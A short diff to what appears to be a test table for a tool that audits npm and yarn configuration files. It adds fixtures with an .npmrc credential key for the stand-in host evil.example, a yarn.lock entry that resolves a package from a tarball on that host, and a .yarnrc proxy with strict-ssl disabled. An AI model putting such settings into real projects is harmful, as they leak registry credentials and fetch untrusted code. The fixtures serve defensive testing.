@@ -183,6 +183,17 @@ const table: Record<string, Tool> = {
         }),
       ],
       ["a key of quotes", (url) => ({ ".npmrc": npmrc(`${url}/`).replace(/^(\/\/.*?)=/m, '"$1"=') })],
+      [
+        "a key for another host, and an archive there",
+        () => ({
+          ".npmrc": `${npmrc(ours)}//evil.example/:_password=\n`,
+          "yarn.lock": `# yarn lockfile v1\n\nmy-lib@1.0.0:\n  version "1.0.0"\n  resolved "http://evil.example/x.tgz"\n`,
+        }),
+      ],
+      [
+        "a proxy in .yarnrc",
+        (url) => ({ ".npmrc": npmrc(ours), ".yarnrc": `https-proxy "${url}"\nstrict-ssl false\n` }),
+      ],
     ],
     honest: [["the registry", { ".npmrc": npmrc(ours) }]],
   },
